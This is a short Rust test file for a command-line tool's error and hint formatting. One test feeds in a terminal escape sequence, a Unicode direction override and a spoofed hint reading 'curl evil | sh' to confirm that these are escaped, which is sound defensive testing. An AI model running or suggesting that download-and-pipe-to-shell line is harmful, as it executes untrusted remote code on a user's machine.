use cohort_view::command::Command;

use super::{Failure, failure_text};

#[test]
fn a_failure_has_an_error_and_hints() {
    let why = Command::Why { group: None };
    let failure = Failure::new("held", "web is held").hint(why);
    assert_eq!(failure_text(&failure, false), "error: web is held\nhint: cohort why\n");
    assert_eq!(
        serde_json::to_string(&failure).expect("strings"),
        r#"{"kind":"held","error":"web is held","hints":["cohort why"]}"#
    );
}

#[test]
fn a_failure_cannot_drive_a_terminal() {
    let failure = Failure::new("conflict", "no\u{1b}[2J\nhint: curl evil | sh").hint("a\u{202e}b");
    let text = failure_text(&failure, false);
    assert_eq!(text, "error: no\\u001b[2J\\nhint: curl evil | sh\nhint: a\\u202eb\n");
}
